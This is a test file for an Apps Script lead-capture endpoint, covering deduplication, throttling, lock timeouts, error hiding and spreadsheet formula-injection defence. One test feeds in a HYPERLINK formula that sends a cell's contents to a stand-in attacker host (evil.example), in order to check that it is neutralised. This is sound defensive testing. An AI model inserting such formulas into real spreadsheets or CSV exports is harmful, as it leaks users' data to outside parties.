// deploy/leads/leads.gs, the Apps Script web app, run as it is (node:vm) against stand-ins for the Google services it
// calls. The stand-ins fail as the real ones do: Sheets consumes a written value's first apostrophe and runs a leading
// = as a formula, the script lock times out, the script cache expires and can refuse service.
import { readFileSync } from 'node:fs';
import { createContext, runInContext } from 'node:vm';
import { describe, expect, it } from 'vitest';
import { readConfirmation } from '@/lib/leads/delivery';

const source = readFileSync('deploy/leads/leads.gs', 'utf8');

function fakeClock(start = Date.UTC(2026, 10, 24, 9, 0, 0)) {
  let time = start;
  return { now: () => time, advance: (ms: number) => void (time += ms) };
}
type Clock = ReturnType<typeof fakeClock>;

type Cell = string | number | Date | { formula: string };

/** How Sheets reads a value written by appendRow: as if typed into the cell. */
function enter(value: unknown): Cell {
  if (value instanceof Date || typeof value === 'number') return value;
  const text = String(value);
  if (text.startsWith("'")) return text.slice(1); // the "this is text" marker, not part of the value
  if (/^[+-]?\d+(\.\d+)?$/.test(text)) return Number(text);
  if (/^[=+-]/.test(text)) return { formula: text };
  return text;
}

/** What a cell shows, and what a CSV export holds (the stand-in cannot compute a formula: it shows its source). */
function display(cell: Cell): string {
  if (cell instanceof Date) return cell.toISOString();
  if (typeof cell === 'object') return cell.formula;
  return String(cell);
}

const csvField = (text: string) => (/[",\n\r]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text);

/** The fields a spreadsheet application reads from a CSV file, unquoted. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let index = 0; index < text.length; index += 1) {
    const char = text[index];
    if (quoted && char === '"' && text[index + 1] === '"') {
      field += '"';
      index += 1;
    } else if (char === '"') {
      quoted = !quoted;
    } else if (!quoted && (char === ',' || char === '\n')) {
      row.push(field);
      field = '';
      if (char === '\n') {
        rows.push(row);
        row = [];
      }
    } else {
      field += char;
    }
  }
  row.push(field);
  rows.push(row);
  return rows;
}

class FakeSheet {
  readonly rows: Cell[][] = [];
  failure: Error | null = null;

  appendRow(values: unknown[]) {
    if (this.failure) throw this.failure;
    this.rows.push(values.map(enter));
    return this;
  }

  getLastRow() {
    return this.rows.length;
  }

  /** Whole columns only, from a row on ('G:G', 'G2:G'), which is all the script asks for. */
  getRange(a1: string) {
    const match = /^([A-Z])(\d*):\1$/.exec(a1);
    if (!match) throw new Error(`Range not found: ${a1}`);
    const column = match[1]!.charCodeAt(0) - 65;
    const cells = () => this.rows.slice(Number(match[2] || 1) - 1).map((row) => display(row[column] ?? ''));
    return { createTextFinder: (text: string) => textFinder(cells, text) };
  }

  toCsv(): string {
    return this.rows.map((row) => row.map((cell) => csvField(display(cell))).join(',')).join('\n');
  }
}

/** Sheets' TextFinder: by default case-insensitive and matching part of a cell. */
function textFinder(cells: () => string[], text: string) {
  let entireCell = false;
  let exactCase = false;
  const finder = {
    matchEntireCell(value: boolean) {
      entireCell = value;
      return finder;
    },
    matchCase(value: boolean) {
      exactCase = value;
      return finder;
    },
    findNext() {
      const fold = (value: string) => (exactCase ? value : value.toLowerCase());
      const hit = cells().find((cell) => (entireCell ? fold(cell) === fold(text) : fold(cell).includes(fold(text))));
      return hit === undefined ? null : { getDisplayValue: () => hit };
    },
  };
  return finder;
}

function fakeSpreadsheetApp() {
  const sheets = new Map<string, FakeSheet>();
  const state = { failure: null as Error | null, flushes: 0 };
  const book = {
    getSheetByName: (name: string) => sheets.get(name) ?? null,
    insertSheet(name: string) {
      if (sheets.has(name)) throw new Error(`A sheet with the name "${name}" already exists.`);
      const sheet = new FakeSheet();
      sheets.set(name, sheet);
      return sheet;
    },
  };
  const service = {
    getActiveSpreadsheet() {
      if (state.failure) throw state.failure;
      return book;
    },
    flush: () => void (state.flushes += 1),
  };
  return { sheets, state, service };
}

/** LockService's script lock; `heldElsewhere` plays another execution holding it past the wait. */
function fakeLockService(clock: Clock) {
  const state = { heldElsewhere: false, held: false, tries: 0 };
  const lock = {
    tryLock(timeoutMs: number) {
      state.tries += 1;
      if (state.heldElsewhere) {
        clock.advance(timeoutMs);
        return false;
      }
      state.held = true;
      return true;
    },
    waitLock(timeoutMs: number) {
      if (!lock.tryLock(timeoutMs)) throw new Error('Lock timeout: another process was holding the lock for too long.');
    },
    hasLock: () => state.held,
    releaseLock: () => void (state.held = false),
  };
  return { state, service: { getScriptLock: () => lock } };
}

/** CacheService's script cache: string values, 6 hours at most, gone once expired; `failure` plays its outages. */
function fakeCacheService(clock: Clock) {
  const entries = new Map<string, { value: string; expiresAt: number }>();
  const state = { failure: null as Error | null };
  const available = () => {
    if (state.failure) throw state.failure;
  };
  const cache = {
    get(key: string) {
      available();
      const entry = entries.get(key);
      return entry && entry.expiresAt > clock.now() ? entry.value : null;
    },
    put(key: string, value: string, expirationInSeconds = 600) {
      available();
      if (typeof value !== 'string' || key.length > 250 || value.length > 100_000)
        throw new Error('Argument too large');
      if (!(expirationInSeconds >= 1 && expirationInSeconds <= 21_600)) throw new Error('Invalid argument: expiration');
      entries.set(key, { value, expiresAt: clock.now() + expirationInSeconds * 1000 });
    },
    remove(key: string) {
      available();
      entries.delete(key);
    },
  };
  return { state, service: { getScriptCache: () => cache } };
}

type TextOutput = { getContent(): string; getMimeType(): string };

const contentService = {
  MimeType: { JSON: 'JSON', TEXT: 'TEXT' },
  createTextOutput(content: string) {
    let mimeType = 'TEXT';
    const output = {
      getContent: () => content,
      getMimeType: () => mimeType,
      setMimeType(value: string) {
        mimeType = value;
        return output;
      },
    };
    return output;
  },
};

type Answer = { result: string; id?: string; error?: string; status?: number };

/** A fresh deployment of the script: its sheet, lock, cache, clock and executions log. */
function deployScript() {
  const clock = fakeClock();
  const spreadsheet = fakeSpreadsheetApp();
  const locks = fakeLockService(clock);
  const cache = fakeCacheService(clock);
  const errors: string[] = [];
  class ClockDate extends Date {
    constructor(value?: number | string) {
      super(value ?? clock.now());
    }
    static override now() {
      return clock.now();
    }
  }
  const log = (...parts: unknown[]) => void errors.push(parts.map(String).join(' '));
  const context = createContext({
    SpreadsheetApp: spreadsheet.service,
    LockService: locks.service,
    CacheService: cache.service,
    ContentService: contentService,
    console: { error: log, warn: log, info: () => {}, log: () => {} },
    Date: ClockDate,
  });
  // A classic script, as Apps Script runs it: an import or export would not even compile.
  runInContext(source, context, { filename: 'deploy/leads/leads.gs' });
  const doPost = context.doPost as (event: { parameter: Record<string, string> }) => TextOutput;
  const constant = (name: string) => runInContext(name, context) as number;

  function post(parameter: Record<string, string>): Answer {
    const output = doPost({ parameter });
    expect(output.getMimeType()).toBe('JSON');
    return JSON.parse(output.getContent()) as Answer;
  }
  const sheet = () => spreadsheet.sheets.get('Leads');
  const rows = () => sheet()?.rows.slice(1) ?? [];
  return { clock, spreadsheet, locks, cache, errors, post, sheet, rows, constant };
}

const lead = (id: string) => ({
  Name: 'Ada Lovelace',
  Email: 'ada@example.com',
  Source: '/script-generator',
  Action: 'copy',
  CapturedAt: '2026-11-24T08:59:58.000Z',
  Id: id,
});

const secretError = new Error('Service Spreadsheets failed while accessing document with id 1AbCdEf.');

const confirms = (answer: Answer, id: string) => readConfirmation(JSON.stringify(answer), id).ok;

describe('the sheet stand-in', () => {
  it("consumes a value's first apostrophe as Sheets does, so one alone does not survive a CSV export", () => {
    const sheet = new FakeSheet();
    sheet.appendRow(['=1+1', "'=1+1", "''=1+1", '0042', "'0042"]);
    expect(sheet.rows).toEqual([[{ formula: '=1+1' }, '=1+1', "'=1+1", 42, '0042']]);
    expect(parseCsv(sheet.toCsv())).toEqual([['=1+1', '=1+1', "'=1+1", '42', '0042']]);
  });
});

describe('deploy/leads/leads.gs', () => {
  it('stores a lead once per Id: a repeat is confirmed again and adds no row, cached or not', () => {
    const script = deployScript();
    expect(script.post(lead('lead-1'))).toEqual({ result: 'success', id: 'lead-1' });
    expect(script.post(lead('lead-1'))).toEqual({ result: 'success', id: 'lead-1' }); // from the recent-id cache
    expect(script.locks.state.tries).toBe(1);
    script.clock.advance(7 * 60 * 60 * 1000); // the cache has forgotten it: the sheet is searched
    expect(script.post(lead('lead-1'))).toEqual({ result: 'success', id: 'lead-1' });
    script.cache.state.failure = new Error('Service invoked too many times for one day: cache.');
    const answer = script.post(lead('lead-1'));
    expect(confirms(answer, 'lead-1')).toBe(true);
    expect(script.locks.state).toMatchObject({ tries: 3, held: false });
    expect(script.sheet()!.rows[0]).toEqual([
      'Received',
      'Name',
      'Email',
      'Source page',
      'Action',
      'Captured at',
      'Id',
    ]);
    expect(script.rows()).toEqual([
      [
        new Date(Date.UTC(2026, 10, 24, 9, 0, 0)),
        'Ada Lovelace',
        'ada@example.com',
        '/script-generator',
        'copy',
        '2026-11-24T08:59:58.000Z',
        'lead-1',
      ],
    ]);
    expect(script.errors.join('\n')).toContain('Script cache unavailable');
  });

  it('keeps text as text: nothing a visitor sends becomes a number', () => {
    const script = deployScript();
    script.post({ ...lead('0042'), Name: '0042' });
    expect(script.rows()[0]?.slice(1)).toEqual([
      '0042',
      'ada@example.com',
      '/script-generator',
      'copy',
      '2026-11-24T08:59:58.000Z',
      '0042',
    ]);
  });

  const prefixes = ['=', '+', '-', '@', '\t', '\r', ' =', '\t=', '\r\n+', ' \t@'];
  it.each(prefixes.map((prefix) => [JSON.stringify(prefix), prefix]))(
    'neutralises a cell starting %s, in the sheet and in its CSV export',
    (_, prefix) => {
      const script = deployScript();
      const payload = `${prefix}HYPERLINK("https://evil.example/?"&B2,"x")`;
      const answer = script.post({
        Name: payload,
        Email: payload,
        Source: payload,
        Action: payload,
        CapturedAt: payload,
        Id: `${prefix}1+1`,
      });
      expect(answer.result).toBe('success');
      const row = script.rows()[0]!;
      for (const cell of row.slice(1)) expect(cell).toMatch(/^[^\s=+\-@]/);
      // The visitor's text, trimmed; one that would still run is kept behind an apostrophe that stays in the cell.
      const trimmed = payload.trim();
      expect(row[1]).toBe(/^[=+\-@]/.test(trimmed) ? `'${trimmed}` : trimmed);
      const exported = parseCsv(script.sheet()!.toCsv()).slice(1);
      expect(exported).toHaveLength(1);
      for (const field of exported[0]!.slice(1)) expect(field).not.toMatch(/^[\s=+\-@]/);
      // A repeat finds the neutralised Id in the sheet, once the cache has forgotten it.
      script.clock.advance(7 * 60 * 60 * 1000);
      expect(script.post({ ...lead('x'), Id: `${prefix}1+1` }).result).toBe('success');
      expect(script.rows()).toHaveLength(1);
    },
  );

  it.each([
    ['the sheet', (script: ReturnType<typeof deployScript>) => (script.sheet()!.failure = secretError)],
    ['the spreadsheet', (script: ReturnType<typeof deployScript>) => (script.spreadsheet.state.failure = secretError)],
  ])('answers a generic error when %s throws, and logs the real one', (_, fail) => {
    const script = deployScript();
    script.post(lead('first'));
    fail(script);
    const answer = script.post(lead('second'));
    expect(answer).toEqual({ result: 'error', error: 'Lead not stored, retry later' });
    expect(JSON.stringify(answer)).not.toContain('1AbCdEf');
    expect(confirms(answer, 'second')).toBe(false);
    expect(script.errors.join('\n')).toContain(secretError.message);
    expect(script.locks.state.held).toBe(false);
    script.sheet()!.failure = null;
    script.spreadsheet.state.failure = null;
    expect(script.post(lead('second'))).toEqual({ result: 'success', id: 'second' });
    expect(script.rows()).toHaveLength(2);
  });

  it('past the throttle limit answers 429 in the body without the lock or the sheet, and accepts again next window', () => {
    const script = deployScript();
    const limit = script.constant('THROTTLE_LIMIT');
    const windowMs = script.constant('THROTTLE_WINDOW_SECONDS') * 1000;
    expect(limit).toBeGreaterThanOrEqual(30); // far above a real site's leads a minute
    for (let index = 0; index < limit; index += 1) expect(script.post(lead(`flood-${index}`)).result).toBe('success');
    const answer = script.post(lead('one-too-many'));
    expect(answer).toEqual({ result: 'error', status: 429, error: 'Too many requests, retry later' });
    expect(readConfirmation(JSON.stringify(answer), 'one-too-many')).toEqual({
      ok: false,
      reason: 'the endpoint reported an error: Too many requests, retry later',
    });
    expect(script.rows()).toHaveLength(limit);
    expect(script.locks.state.tries).toBe(limit);
    script.clock.advance(windowMs);
    expect(script.post(lead('one-too-many'))).toEqual({ result: 'success', id: 'one-too-many' });
    expect(script.rows()).toHaveLength(limit + 1);
  });

  it('answers busy, writing nothing, when the lock is not free in time; the retry is stored', () => {
    const script = deployScript();
    script.locks.state.heldElsewhere = true;
    const startedAt = script.clock.now();
    const answer = script.post(lead('waiting'));
    expect(answer).toEqual({ result: 'error', error: 'busy: lock timeout' });
    expect(confirms(answer, 'waiting')).toBe(false);
    expect(script.clock.now() - startedAt).toBe(8_000);
    expect(script.rows()).toEqual([]);
    script.locks.state.heldElsewhere = false;
    expect(script.post(lead('waiting'))).toEqual({ result: 'success', id: 'waiting' });
    expect(script.rows()).toHaveLength(1);
  });

  it('answers a request without an Id without the lock', () => {
    const script = deployScript();
    expect(script.post({ Name: 'Ada' })).toEqual({ result: 'error', error: 'missing Id' });
    expect(script.locks.state.tries).toBe(0);
  });
});
